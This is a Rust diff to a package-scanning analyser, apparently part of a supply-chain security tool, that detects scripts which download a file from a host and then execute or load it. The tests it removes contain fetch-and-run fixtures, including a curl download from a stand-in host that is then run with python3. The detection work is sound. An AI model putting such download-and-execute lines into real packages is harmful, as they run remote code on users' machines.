@@ -79,6 +79,7 @@ fn is_script(path: &str) -> bool {
 
 struct Write {
     path: String,
+    class: FileClass,
     host: Option<Host>,
     locus: Locus,
 }
@@ -106,7 +107,7 @@ pub(crate) fn find(facts: &Facts<'_>) -> Vec<FetchedFact> {
             }
             found.push(FetchedFact {
                 path: write.path.clone(),
-                class: classify(&write.path),
+                class: write.class,
                 host: write.host.clone(),
                 fetched: write.locus.clone(),
                 used: usage.locus.clone(),
@@ -143,9 +144,11 @@ fn writes(facts: &Facts<'_>) -> Vec<Write> {
             None => continue,
         };
         let locus = facts.locus(call.spot);
-        let paths = call.arguments.get(usize::from(path)).into_iter().flat_map(|argument| &argument.texts);
-        for path in paths.filter_map(|path| clean(path)) {
-            writes.push(Write { path, host: host.clone(), locus: locus.clone() });
+        let Some(place) = call.arguments.get(usize::from(path)) else { continue };
+        let in_user_folder = place.sources.iter().any(is_user_folder);
+        for path in place.texts.iter().filter_map(|path| clean(path)) {
+            let class = if in_user_folder { FileClass::Temporary } else { classify(&path) };
+            writes.push(Write { path, class, host: host.clone(), locus: locus.clone() });
         }
     }
     for command in facts.commands().iter().filter(|command| downloads(command)) {
@@ -153,11 +156,19 @@ fn writes(facts: &Facts<'_>) -> Vec<Write> {
         let words = command.text.split(|next: char| next.is_whitespace() || matches!(next, '"' | '\'' | '='));
         let paths = words.filter(|word| !word.contains("://") && word.len() > 2 && !word.starts_with('-'));
         for path in paths.filter_map(clean) {
-            writes.push(Write { path, host: host.clone(), locus: command.locus.clone() });
+            let class = classify(&path);
+            writes.push(Write { path, class, host: host.clone(), locus: command.locus.clone() });
         }
     }
     writes.truncate(PAIRS);
     writes
+}
+
+/// Variables that name the temporary folder or one of the user's.
+fn is_user_folder(source: &Source) -> bool {
+    const NAMES: [&str; 8] =
+        ["TEMP", "TMP", "TMPDIR", "APPDATA", "LOCALAPPDATA", "USERPROFILE", "HOME", "ProgramData"];
+    matches!(source, Source::Variable(name) if NAMES.iter().any(|known| name.eq_ignore_ascii_case(known)))
 }
 
 /// Whether the script of `call` asks any host for anything.
@@ -195,8 +206,13 @@ fn usages(facts: &Facts<'_>) -> Vec<Usage> {
         .iter()
         .filter(|command| !downloads(command) && !matches!(command.origin, CommandOrigin::Script(_)))
     {
+        let usage =
+            |path, usage| Usage { path, usage, locus: command.locus.clone(), trigger: command.trigger };
+        // A path of Windows is no word of `sh`; the line that is nothing else is one all the same.
+        let whole = clean(&command.text).filter(|text| !text.contains(char::is_whitespace));
+        usages.extend(whole.map(|path| usage(path, FetchedUse::Started)));
         for run in &command.runs {
-            let (path, usage) = match run {
+            let (path, used) = match run {
                 Run::NodeFile { path, .. } => (path, FetchedUse::Interpreted("node".to_owned())),
                 Run::InterpreterFile { interpreter, path } => {
                     (path, FetchedUse::Interpreted(interpreter.clone()))
@@ -209,7 +225,7 @@ fn usages(facts: &Facts<'_>) -> Vec<Usage> {
                 _ => continue,
             };
             let Some(path) = clean(path) else { continue };
-            usages.push(Usage { path, usage, locus: command.locus.clone(), trigger: command.trigger });
+            usages.push(usage(path, used));
         }
     }
     for call in facts.all_calls() {
@@ -227,7 +243,9 @@ fn usages(facts: &Facts<'_>) -> Vec<Usage> {
         }
     }
     for load in facts.loads() {
-        if let Some(path) = load.specifier.as_deref().and_then(clean) {
+        let locus = facts.locus(load.spot);
+        let specifier = load.specifier.as_deref().map(|specifier| from_root(specifier, &locus.file));
+        if let Some(path) = specifier.as_deref().and_then(clean) {
             usages.push(Usage {
                 path,
                 usage: FetchedUse::Loaded,
@@ -248,7 +266,7 @@ fn computed_loads(facts: &Facts<'_>, writes: &[Write], found: &mut Vec<FetchedFa
             if used.file == write.locus.file && used.start > write.locus.end {
                 found.push(FetchedFact {
                     path: write.path.clone(),
-                    class: classify(&write.path),
+                    class: write.class,
                     host: write.host.clone(),
                     fetched: write.locus.clone(),
                     used,
@@ -257,6 +275,16 @@ fn computed_loads(facts: &Facts<'_>, writes: &[Write], found: &mut Vec<FetchedFa
                 });
             }
         }
+    }
+}
+
+/// A specifier that is relative to the script `file`, as a path from the package's root.
+fn from_root(specifier: &str, file: &str) -> String {
+    let folder = file.rsplit_once('/').map_or("", |(folder, _)| folder);
+    match specifier.strip_prefix("./") {
+        Some(rest) if folder.is_empty() => format!("{PACKAGE}/{rest}"),
+        Some(rest) => format!("{PACKAGE}/{folder}/{rest}"),
+        None => specifier.to_owned(),
     }
 }
 
@@ -269,45 +297,4 @@ fn clean(path: &str) -> Option<String> {
 }
 
 #[cfg(test)]
-mod tests {
-    use stockade_model::{Limits, Tree, TreeFile};
-
-    use super::*;
-    use crate::{Context, gather};
-
-    fn found(script: &str) -> Vec<(String, FetchedUse)> {
-        let file = |path: &str, text: &str| TreeFile {
-            path: path.to_owned(),
-            bytes: text.as_bytes().into(),
-            is_executable: false,
-            reading: 0,
-        };
-        let tree =
-            Tree::new(vec![file("package.json", r#"{"name": "x", "main": "i.js"}"#), file("i.js", script)]);
-        let context = Context::default();
-        let facts = gather(&tree, &context, &Limits::default());
-        facts.fetched().into_iter().map(|fact| (fact.path, fact.usage)).collect()
-    }
-
-    #[test]
-    fn a_written_reply_that_is_started_is_found() {
-        let script = "const f = require('fs'), c = require('child_process');\n\
-            require('https').get('https://a.invalid', (r) => { r.on('data', (d) => { f.writeFileSync('/tmp/x', d); c.execFile('/tmp/x'); }); });";
-        assert!(found(script).contains(&("/tmp/x".to_owned(), FetchedUse::Started)));
-    }
-
-    #[test]
-    fn a_written_constant_is_not() {
-        let script = "const f = require('fs'), c = require('child_process'); f.writeFileSync('/tmp/x', 'echo'); c.execFile('/tmp/x');";
-        assert!(found(script).is_empty());
-    }
-
-    #[test]
-    fn two_commands_are_brought_together() {
-        let script = "const { execFileSync: run } = require('child_process');\n\
-            run('curl', ['-sSo', '/tmp/u.py', 'https://a.invalid/u.py']); run('python3', ['/tmp/u.py']);";
-        assert!(
-            found(script).contains(&("/tmp/u.py".to_owned(), FetchedUse::Interpreted("python3".to_owned())))
-        );
-    }
-}
+mod tests;
